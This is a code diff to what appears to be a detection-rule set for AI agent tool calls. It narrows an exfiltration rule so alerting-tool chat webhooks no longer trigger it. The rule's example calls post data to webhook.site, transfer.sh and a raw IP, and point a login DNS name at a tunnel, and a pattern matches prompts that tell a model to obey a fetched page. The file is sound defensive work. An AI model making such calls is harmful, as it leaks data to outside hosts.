@@ -843,6 +843,9 @@ const INSTALLER_FILE = /\.(?:exe|msi|dmg|pkg|crx|xpi|apk|deb|rpm|appimage|vsix)(
 /** A fetch tool's prompt that asks the model to carry out what the page says. */
 const OBEY_PAGE = /\b(?:follow|run|execute|obey|carry out)\b[^\n]{0,60}\b(?:instructions?|commands?|steps?|tasks?)\b|\b(?:instructions|commands)\b[^\n]{0,80}\b(?:and|then)\s+(?:run|execute|follow)\b/i;
 
+/** What an alerting or paging tool names the places its notices go. */
+const NOTIFICATION_TARGETS: ReadonlySet<string> = new Set(['contact', 'notification', 'notifier', 'extension', 'integration', 'receiver', 'channel', 'webhook', 'webhooks', 'subscriber']);
+
 export const RULES: readonly Rule[] = [
   {
     id: 'PX-CALL-001', name: 'sql-runs-os-command', score: 95, tactic: 'execution', technique: 'T1059', strong: true,
@@ -1141,11 +1144,14 @@ export const RULES: readonly Rule[] = [
     check: (i) => {
       // a DNS record's address is where a name points, not where the call sends anything (a name pointed at a tunnel is)
       if (i.call.kind !== 'unknown' || readByShape(i.call)) return undefined;
-      const dns = nameWords(i.call.toolName).includes('dns');
-      const d = i.facts.destinations.find((x) => EXFIL_KINDS.has(x.kind) && !(dns && x.kind === 'raw-ip'));
+      const words = nameWords(i.call.toolName);
+      const dns = words.includes('dns');
+      // a chat channel's webhook set as an alerting tool's contact point or integration is where its notices go
+      const notifies = words.some((w) => NOTIFICATION_TARGETS.has(w));
+      const d = i.facts.destinations.find((x) => EXFIL_KINDS.has(x.kind) && !(dns && x.kind === 'raw-ip') && !(notifies && x.kind === 'chat-webhook'));
       return d ? `${i.call.toolName}: ${d.url ?? d.host} (${d.kind})` : undefined;
     },
-    examples: { fire: [{ Unknown: { tool_name: 'cloudflare.dns.updateRecord', params: { zoneName: 'acme.com', record: { type: 'CNAME', name: 'login.acme.com', content: 'acme-sso.trycloudflare.com' } } } }, { Unknown: { tool_name: 'http_post', params: { endpoint: 'https://webhook.site/abc', data: 'x' } } }, { Unknown: { tool_name: 'upload', params: { endpoint: 'https://transfer.sh/f' } } }, { Unknown: { tool_name: 'fetch', params: { target_url: 'http://45.33.12.7/x' } } }], quiet: [{ Unknown: { tool_name: 'mcp__cloudflare__dns_records_create', params: { zone_id: 'c0ffee00', type: 'A', name: 'staging-api.acme.dev', content: '203.0.113.24', proxied: true } } }, { Unknown: { tool_name: 'fetch', params: { url: 'http://45.33.12.7/x' } } }, { Unknown: { tool_name: 'fetch', params: { url: 'https://docs.python.org/3/' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'http://localhost:3000/health' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'https://registry.npmjs.org/zod' } } }] },
+    examples: { fire: [{ Unknown: { tool_name: 'cloudflare.dns.updateRecord', params: { zoneName: 'acme.com', record: { type: 'CNAME', name: 'login.acme.com', content: 'acme-sso.trycloudflare.com' } } } }, { Unknown: { tool_name: 'http_post', params: { endpoint: 'https://webhook.site/abc', data: 'x' } } }, { Unknown: { tool_name: 'upload', params: { endpoint: 'https://transfer.sh/f' } } }, { Unknown: { tool_name: 'fetch', params: { target_url: 'http://45.33.12.7/x' } } }], quiet: [{ Unknown: { tool_name: 'mcp__grafana__create_contact_point', params: { name: 'team-data-slack', type: 'slack', settings: { url: 'https://hooks.slack.com/services/T02ACME01/B07DATA9Q/x9YhQ2mLk7PzR4vN8aBc' } } } }, { Unknown: { tool_name: 'mcp__cloudflare__dns_records_create', params: { zone_id: 'c0ffee00', type: 'A', name: 'staging-api.acme.dev', content: '203.0.113.24', proxied: true } } }, { Unknown: { tool_name: 'fetch', params: { url: 'http://45.33.12.7/x' } } }, { Unknown: { tool_name: 'fetch', params: { url: 'https://docs.python.org/3/' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'http://localhost:3000/health' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'https://registry.npmjs.org/zod' } } }] },
   },
   {
     id: 'PX-CALL-019', name: 'tool-grants-admin-access', score: 70, tactic: 'persistence', technique: 'T1098',
